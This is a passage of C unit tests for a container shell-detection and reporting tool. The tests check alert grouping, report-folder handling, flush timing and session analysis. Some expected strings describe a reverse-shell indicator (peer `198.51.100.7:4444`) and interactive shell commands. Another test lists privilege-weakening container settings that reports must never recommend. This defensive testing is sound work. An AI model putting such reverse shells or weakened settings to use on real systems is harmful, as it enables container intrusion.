	assert_non_null(strstr(text, "3. Look for the peer `198.51.100.7:4444`"));
	assert_non_null(strstr(text, "5. Apply the mitigations above."));
	/* every command of the shell shares its socket: one line of evidence for them */
	assert_non_null(strstr(
		text, "- commands #1-#3: malicious-indicator: network stdio, peer "
		      "`198.51.100.7:4444`\n- command #1: Reverse shell (`reverse-shell`)\n"));
	free(text);
	assert_int_equal(tmpdir_remove(dir), 0);
	free(ev);
}

/* The report folder: created when missing, refused when unusable; the delay decides when. */
static void test_reporter_dir_and_delay(void **state)
{
	char base[] = "/tmp/ss_dir_XXXXXX", path[512];
	struct ss_error err;
	struct exec_event *ev = calloc(1, sizeof(*ev));
	struct reporter_options ro = {.kb_path = KB_FILE, .delay_ns = 2000000000ull};
	struct reporter_stats st;
	struct reporter *rep;
	FILE *f;

	(void)state;
	assert_non_null(mkdtemp(base));
	/* missing: created */
	snprintf(path, sizeof(path), "%s/reports", base);
	ro.dir = path;
	assert_int_equal(reporter_new(&ro, &rep, &err), 0);
	ev->time_ns = 1715767323ull * 1000000000ull;
	ev->container.is_container = true;
	snprintf(ev->container.id, sizeof(ev->container.id), "0123456789ab");
	snprintf(ev->comm, sizeof(ev->comm), "sh");
	snprintf(ev->cmdline, sizeof(ev->cmdline), "sh");
	assert_int_equal(reporter_add(rep, ev, "Detect Shell in Container", PRIO_NOTICE, "o"), 0);
	/* 1.9 s after the last alert: still open; 2 s: written */
	assert_int_equal(reporter_flush(rep, ev->time_ns + 1900000000ull, false), 0);
	reporter_get_stats(rep, &st);
	assert_int_equal(st.written, 0);
	assert_int_equal(reporter_flush(rep, ev->time_ns + 2000000000ull, false), 0);
	reporter_get_stats(rep, &st);
	assert_int_equal(st.written, 1);
	reporter_free(rep);
	/* a file where the folder should be */
	snprintf(path, sizeof(path), "%s/file", base);
	f = fopen(path, "w");
	assert_non_null(f);
	fclose(f);
	assert_int_equal(reporter_new(&ro, &rep, &err), -ENOTDIR);
	assert_non_null(strstr(err.msg, "not a directory"));
	/* a parent that does not exist */
	snprintf(path, sizeof(path), "%s/no/such/dir", base);
	assert_true(reporter_new(&ro, &rep, &err) < 0);
	assert_non_null(strstr(err.msg, "cannot create it"));
	assert_int_equal(tmpdir_remove(base), 0);
	free(ev);
}

/*
 * analyze sees a session through its alerts only: the shell is the exec
 * whose pid is the session id's prefix, the end is not in them, and it says
 * so instead of "still running".
 */
static void test_analyze_session(void **state)
{
	char *l1 = alert_line("Reverse or bind shell in container", "2024-05-15T10:02:03Z",
			      "0123456789ab", 4242, "sh -i", "shellsentry.session", "4242-1a2b3c");
	char *l2 = alert_line("Command in container shell session", "2024-05-15T10:02:09Z",
			      "0123456789ab", 4250, "id", "shellsentry.session", "4242-1a2b3c");
	char in[4096], *out;

	(void)state;
	snprintf(in, sizeof(in), "%s\n%s\n", l1, l2);
	out = analyze(in, NULL, NULL, 0);
	assert_non_null(strstr(out, "## Shell session\n"));
	assert_non_null(strstr(out, "| `4242-1a2b3c` | `sh -i` (pid 4242) | not in the alerts |"));
	assert_non_null(
		strstr(out, "not in the alerts (the daemon's report has the session's end)"));
	assert_null(strstr(out, "still running"));
	free(l1);
	free(l2);
	free(out);
}

/* Runs last: no report ever recommends removing protections. */
static void test_no_harmful_advice(void **state)
{
	const char *all = mdbuf_str(&all_reports);

	(void)state;
	assert_int_equal(all_reports.err, 0);
	assert_true(strlen(all) > 10000); /* the reports above were collected */
	assert_null(strstr(all, "--privileged"));
	assert_null(strstr(all, "privileged=true"));
	assert_null(strstr(all, "seccomp=unconfined"));
	assert_null(strstr(all, "seccomp:unconfined"));
	assert_null(strstr(all, "privileged: true"));
	assert_null(strstr(all, "allowPrivilegeEscalation: true"));
	mdbuf_free(&all_reports);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_seed_reproduced),
		cmocka_unit_test(test_seed_in_context_is_expected),
		cmocka_unit_test(test_seed_elsewhere_one_verdict),
		cmocka_unit_test(test_podman_exec_it_one_report),
		cmocka_unit_test(test_webshell_trail),
		cmocka_unit_test(test_reverse_shell_is_malicious),
		cmocka_unit_test(test_plain_shell_has_no_pattern),
		cmocka_unit_test(test_markdown_injection_contained),
		cmocka_unit_test(test_kubectl_exec_grouped),
		cmocka_unit_test(test_reporter_bounds),
		cmocka_unit_test(test_reporter_dir_and_delay),
		cmocka_unit_test(test_session_report),
		cmocka_unit_test(test_analyze_session),
		cmocka_unit_test(test_no_harmful_advice),
	};

	mdbuf_init(&all_reports, 0);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
